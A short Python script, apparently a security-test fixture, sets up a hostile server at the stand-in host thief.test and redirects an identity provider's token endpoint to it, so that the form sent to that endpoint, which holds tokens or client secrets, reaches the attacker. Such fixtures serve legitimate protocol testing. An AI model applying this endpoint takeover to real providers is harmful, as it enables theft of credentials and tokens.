"""Has taken over a part of the honest provider: its token endpoint redirects here, with the form
that was sent to it."""

import at_provider
from hostile import Hostile

server = Hostile("thief.test")
if not server.honest:
    at_provider.take_over("/token", server.url("/token"))
server.run()
